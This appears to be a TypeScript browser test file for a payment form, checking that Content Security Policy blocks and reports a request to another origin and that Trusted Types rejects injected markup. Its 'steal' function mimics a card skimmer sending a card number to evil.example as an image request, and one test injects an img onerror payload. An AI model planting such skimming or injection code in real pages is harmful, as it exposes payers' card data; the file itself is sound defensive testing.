import { openBrowser } from './open-browser.ts'
import { payable } from './payables.ts'
import { openTab, screen } from './payer-browser.ts'
import { startPayerServer } from './payer-server.ts'
import { openForm, ownServerAndBrowser, server } from './payer-world.ts'
import { selfSigned } from './self-signed.ts'

ownServerAndBrowser()

/** What a skimmer would do: send the card to its own server, as an image. */
const steal = () => {
  new Image().src = 'https://evil.example/?n=4242424242424242'
}

test('the browser blocks a request to another origin and reports it', async () => {
  const { page, offer, complaints, close } = await openForm()
  await page.evaluate(steal)
  const { type, body } = await server.reported('evil.example')
  expect(type).toBe('application/csp-report')
  expect(JSON.parse(body)).toMatchObject({
    'csp-report': { 'document-uri': offer.url, 'effective-directive': 'img-src', disposition: 'enforce' },
  })
  expect(complaints.join()).toContain('violates the following Content Security Policy directive: "img-src \'self\'"')
  await close()
})

test('the browser creates no markup from text, and reports that', async () => {
  const { page, close } = await openForm()
  const set = () =>
    page.evaluate(() => {
      document.body.innerHTML = '<img src="x" onerror="steal()">'
    })
  await expect(set()).rejects.toThrow("requires 'TrustedHTML'")
  await server.reported('require-trusted-types-for')
  await close()
})

test('over https, the browser reports with the Reporting API', async () => {
  const secure = await startPayerServer(await selfSigned())
  const browser = await openBrowser(['--ignore-certificate-errors', '--short-reporting-delay'])
  const { page, close } = await openTab(browser, secure.origin)
  // Chromium asks for this permission before it sends reports of a page, which may be closed by then.
  await page.context().grantPermissions(['background-sync'])
  const offer = secure.offer(payable())
  await page.goto(offer.url)
  await screen(page, 'form')
  await page.evaluate(steal)
  const { type, body } = await secure.reported('evil.example')
  expect(type).toBe('application/reports+json')
  expect(JSON.parse(body)).toContainEqual(
    expect.objectContaining({
      type: 'csp-violation',
      body: expect.objectContaining({ documentURL: offer.url, effectiveDirective: 'img-src' }),
    }),
  )
  await close()
  await browser.close()
  await secure.stop()
})
